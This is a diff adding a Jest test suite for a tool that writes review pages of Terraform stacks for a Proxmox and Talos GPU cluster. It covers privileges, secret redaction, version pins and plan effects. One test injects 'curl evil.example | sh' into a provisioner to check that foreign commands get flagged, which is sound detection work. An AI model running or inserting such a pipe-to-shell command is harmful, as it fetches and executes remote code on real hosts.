@@ -1,0 +1,251 @@
+import { type ProxmoxUse, privilegesFor, roleCommand } from "../constructs/proxmox/privileges";
+import { pageOf } from "../review/page";
+import { changesOf, summaryOf } from "../review/plan";
+import { proxmoxUsesOf, rootOnly, unknownTo } from "../review/right";
+import { pins } from "../scripts/pins";
+import { change, losing, planOf, secret } from "./review.fixtures";
+import { type Stack, synthesize } from "./synthesized";
+
+const page = (name: string, stack: Stack, plan?: Parameters<typeof pageOf>[3]) => pageOf(name, stack, pins(), plan);
+
+const onEvery: readonly ProxmoxUse[] = ["vm", "network", "cloudInit", "guestAgent", "hostFacts"];
+
+describe.each<[file: string, name: string, uses: readonly ProxmoxUse[], rootOnly: readonly string[]]>([
+  ["main.ts", "talos-gpu", ["image"], ["proxmox_virtual_environment_vm.talos_node.hostpci"]],
+  ["examples/mapping.ts", "talos-gpu-mapping", ["image", "mappedDevice", "mapping"], []],
+  ["examples/template.ts", "talos-gpu-template", ["clone"], ["proxmox_virtual_environment_vm.talos_node.hostpci"]],
+  ["examples/golden-image.ts", "workstation", ["clone", "mappedDevice"], []],
+  ["examples/own-stack.ts", "own-stack", ["image", "mappedDevice"], []],
+  ["examples/sharing.ts", "talos-gpu-sharing", ["image"], ["proxmox_virtual_environment_vm.talos_node.hostpci"]],
+])("the review of %s", (file, name, uses, roots) => {
+  const stack = () => synthesize(file)[name] ?? {};
+
+  test("is its golden page", () => {
+    expect(page(name, stack())).toMatchSnapshot();
+  });
+
+  test("is the same on every run, in whatever order its JSON is", () => {
+    const reversed = (value: unknown): unknown =>
+      typeof value !== "object" || value === null || Array.isArray(value)
+        ? value
+        : Object.fromEntries(
+            Object.entries(value)
+              .reverse()
+              .map(([key, inside]) => [key, reversed(inside)]),
+          );
+    expect(page(name, reversed(stack()) as Stack)).toBe(page(name, stack()));
+  });
+
+  test("knows what everything in it is and needs", () => {
+    expect(unknownTo(stack())).toEqual([]);
+    expect(page(name, stack())).not.toMatch(/unknown to this page|not of this project/);
+  });
+
+  test("has the rights of what it does, and no others", () => {
+    expect([...proxmoxUsesOf(stack())].sort()).toEqual([...onEvery, ...uses].sort());
+    expect(rootOnly(stack())).toEqual(roots);
+    for (const major of [8, 9] as const)
+      expect(page(name, stack())).toContain(
+        `\n${roleCommand("TerraformStack", privilegesFor([...onEvery, ...uses], major))}\n`,
+      );
+  });
+});
+
+describe("a page", () => {
+  test("says of a type that no table knows that it is unknown, and does not leave it out", () => {
+    const text = page("s", { resource: { proxmox_made_up: { thing: {} } } });
+    expect(text).toContain("| `proxmox_made_up.thing` | unknown to this page");
+    expect(text).toContain("**Unknown: what `proxmox_made_up.thing` needs is not part of these lines.**");
+  });
+
+  test("escapes what Markdown would read", () => {
+    const text = page("a|b *c*", {
+      variable: { token: { sensitive: true, description: "a | b\n`c` <d> *e*" } },
+      resource: { local_file: { f: { filename: "x|y`z", file_permission: "0644" } } },
+    });
+    expect(text).toContain("# Review of a|b \\*c\\*\n");
+    expect(text).toContain("| `token` | a \\| b \\`c\\` \\<d\\> \\*e\\* |");
+    expect(text).toContain("file `` x\\|y`z ``");
+  });
+
+  test("shows no default of a sensitive variable, and no value of a command's environment", () => {
+    const text = page("s", {
+      variable: { token: { sensitive: true, default: secret } },
+      resource: {
+        null_resource: {
+          own: { provisioner: [{ "local-exec": { command: "true", environment: { TOKEN: secret } } }] },
+        },
+      },
+    });
+    expect(text).toContain("`TOKEN`");
+    expect(text).not.toContain(secret);
+  });
+
+  test("shows a command in full that is not the constructs', even where one of theirs was changed", () => {
+    const stack = structuredClone(synthesize("main.ts")["talos-gpu"]) as {
+      resource: { null_resource: { wait_for_kubernetes: { provisioner: [{ "local-exec": { command: string } }] } } };
+    };
+    expect(page("s", stack)).not.toContain("curl");
+    stack.resource.null_resource.wait_for_kubernetes.provisioner[0]["local-exec"].command += "curl evil.example | sh\n";
+    const text = page("s", stack);
+    expect(text).toContain("| `curl`, `kubectl` | **not of this project's constructs** |");
+    expect(text).toMatch(/^```sh\n[^`]*curl evil\.example \| sh\n```$/m);
+  });
+
+  test("tells of a file with a secret that others can read", () => {
+    const stack = structuredClone(synthesize("main.ts")["talos-gpu"]) as {
+      resource: { local_file: { kubeconfig: { file_permission: string } } };
+    };
+    expect(page("s", stack)).not.toContain("readable by others");
+    stack.resource.local_file.kubeconfig.file_permission = "0644";
+    expect(page("s", stack)).toContain("`0644` **readable by others**");
+  });
+
+  test("says that a secret of a resource is in the state, and one of a provider is not", () => {
+    const text = page("s", {
+      variable: { both: { sensitive: true }, one: { sensitive: true } },
+      provider: { proxmox: [{ password: "${var.one}" }] },
+      resource: { made_up: { thing: { attribute: "${var.both}" } } },
+    });
+    expect(text).toContain("| `both` | – | `made_up.thing` | **state**, and every plan file |");
+    expect(text).toContain("| `one` | – | `provider.proxmox` | every plan file; not the state |");
+  });
+
+  test.each([
+    ["v1.13.9", "1.35.4", "| `v1.13.9` | supported |", "| `1.35.4` | supported |"],
+    ["v1.10.0", "1.35.4", "**Talos version", "| `1.35.4` |"],
+    ["v1.13.9", "1.12.0", "| supported |", "**kubernetesVersion"],
+    ["${var.talos}", "1.35.4", "| `${var.talos}` | decided at plan |", "| `1.35.4` | decided at plan |"],
+  ])("judges Talos %s with Kubernetes %s by the rules", (talos_version, kubernetes_version, ...verdicts) => {
+    const text = page("s", {
+      data: { talos_machine_configuration: { node: { talos_version, kubernetes_version } } },
+    });
+    for (const verdict of verdicts) expect(text).toContain(verdict);
+  });
+
+  test("judges providers by the pins, and charts by what is known of them", () => {
+    const chart = (chart: string, version?: string) => ({ chart, name: chart, version });
+    const text = page("s", {
+      terraform: {
+        required_providers: { proxmox: { source: "bpg/proxmox", version: "0.111.0" }, random: { source: "random" } },
+      },
+      resource: { helm_release: { cilium: chart("cilium", "1.17.0"), other: chart("other") } },
+    });
+    expect(text).toContain("| provider bpg/proxmox | `0.111.0` | **the project is built for 0.112.0** |");
+    expect(text).toContain("| provider random | `any` | not of this project |");
+    expect(text).toMatch(/`1\.17\.0` \| \*\*version "1\.17\.0" is not supported/);
+    expect(text).toContain("| `any` | **the newest at every apply: not fixed** |");
+  });
+
+  test("tells of checks that warn", () => {
+    const text = page("s", {
+      check: { memory: { assert: [{ condition: "${false}", error_message: "${var.a} of $${B} [host-memory]" }] } },
+    });
+    expect(text).toContain("| `host-memory` | `check.memory` | … of ${B} | warns |");
+  });
+});
+
+describe("a plan", () => {
+  const stack = () => synthesize("main.ts")["talos-gpu"] ?? {};
+  const effectsOf = (...changes: readonly unknown[]) =>
+    changesOf(planOf(...changes)).map(({ effect, words }) => [effect, words]);
+  const vm = "proxmox_virtual_environment_vm.vm";
+  const updated = (before: unknown, after: unknown, address = vm) =>
+    effectsOf(change(address, { actions: ["update"], before, after }));
+
+  test("that loses a VM and secrets is told so before all else: its golden page", () => {
+    const text = page("talos-gpu", stack(), losing);
+    expect(text.slice(0, text.indexOf("## What is made"))).toMatchSnapshot();
+  });
+
+  test("shows no secret", () => {
+    expect(JSON.stringify(losing)).toContain(secret);
+    expect(page("talos-gpu", stack(), losing)).not.toContain(secret);
+  });
+
+  test("is told the same on every run, in whatever order its changes are", () => {
+    const changes = losing.resource_changes as unknown[];
+    expect(page("s", {}, { ...losing, resource_changes: [...changes].reverse() })).toBe(page("s", {}, losing));
+  });
+
+  test("without changes is nothing", () => {
+    const idle = planOf(change(vm, { actions: ["no-op"] }), change("data.a.b", { actions: ["read"] }));
+    expect(summaryOf(changesOf(idle))).toBe("nothing changes");
+    expect(page("s", {}, idle)).toContain("## What will change\n\nNothing.\n");
+  });
+
+  test.each([
+    ["cpu", [{ cores: 1 }], [{ cores: 2 }], "restarted"],
+    ["hostpci", [{ id: "a" }], [{ id: "b" }], "restarted"],
+    ["tags", ["a"], ["b"], "recorded"],
+    ["description", "a", "b", "recorded"],
+    ["made_up", "a", "b", "unknown"],
+  ])("of a VM's %s has the effect of the table", (name, before, after, effect) => {
+    expect(updated({ [name]: before }, { [name]: after })).toEqual([[effect, expect.stringContaining(name)]]);
+  });
+
+  test("of a disk is as bad as what becomes of it", () => {
+    const disk = (size: number, more = {}) => ({ interface: "scsi0", size, ...more });
+    expect(updated({ disk: [disk(100)] }, { disk: [disk(200)] })).toEqual([
+      ["changed", expect.stringContaining("`scsi0` from 100 to 200 GiB")],
+    ]);
+    expect(updated({ disk: [disk(100)] }, { disk: [disk(100, { cache: "none" })] })).toEqual([
+      ["restarted", expect.stringContaining("`scsi0`")],
+    ]);
+    expect(updated({ disk: [disk(100)] }, { disk: [] })).toEqual([["lost", expect.stringContaining("`scsi0`")]]);
+    expect(updated({ disk: [] }, { disk: [disk(1)] })).toEqual([["changed", expect.stringContaining("added")]]);
+  });
+
+  test.each([
+    ["talos_machine_configuration_apply.node", "machine_configuration_input", "restarted"],
+    ["helm_release.cilium", "values", "changed"],
+    ["proxmox_hardware_mapping_pci.gpu", "map", "changed"],
+    ["talos_machine_secrets.cluster", "talos_version", "recorded"],
+    ["null_resource.talos_node_identity", "triggers", "recorded"],
+    ["local_file.kubeconfig", "content", "changed"],
+    ["unheard_of.thing", "what", "unknown"],
+  ])("that updates %s by its %s", (address, attribute, effect) => {
+    expect(updated({ [attribute]: "a" }, { [attribute]: "b" }, address)).toEqual([
+      [effect, expect.stringContaining(attribute)],
+    ]);
+  });
+
+  test.each([
+    ["proxmox_virtual_environment_vm.vm", "lost", "lost"],
+    ["talos_machine_secrets.cluster", "lost", "lost"],
+    ["talos_machine_bootstrap.cluster", "lost", "recorded"],
+    ["talos_machine_configuration_apply.node", "restarted", "recorded"],
+    ["null_resource.upgrade_talos", "upgraded", "recorded"],
+    ["null_resource.upgrade_kubernetes", "upgraded", "recorded"],
+    ["null_resource.gpu_smoke_test", "changed", "recorded"],
+    ["null_resource.talos_node_identity", "recorded", "recorded"],
+    ["proxmox_download_file.talos", "changed", "changed"],
+    ["helm_release.cilium", "lost", "lost"],
+    ["unheard_of.thing", "lost", "lost"],
+  ])("that replaces or deletes %s", (address, replaced, deleted) => {
+    for (const actions of [
+      ["delete", "create"],
+      ["create", "delete"],
+    ])
+      expect(effectsOf(change(address, { actions }))).toEqual([[replaced, expect.anything()]]);
+    expect(effectsOf(change(address, { actions: ["delete"] }))).toEqual([[deleted, expect.anything()]]);
+    expect(effectsOf(change(address, { actions: ["create"] }))).toEqual([["made", expect.anything()]]);
+    expect(effectsOf(change(address, { actions: ["forget"] }))).toEqual([["recorded", expect.anything()]]);
+  });
+
+  test("knows every type of resource that the constructs make", () => {
+    const types = ["main.ts", "examples/mapping.ts", "examples/template.ts", "examples/golden-image.ts"].flatMap(
+      (file) =>
+        Object.values(synthesize(file)).flatMap(({ resource }) =>
+          Object.entries(resource as Record<string, object>).flatMap(([type, named]) =>
+            Object.keys(named).map((name) => `${type}.${name}`),
+          ),
+        ),
+    );
+    expect(types.length).toBeGreaterThan(20);
+    for (const address of types)
+      expect(effectsOf(change(address, { actions: ["delete"] }))).not.toEqual([
+        [expect.anything(), expect.stringContaining("does not know")],
+      ]);
+  });
+});
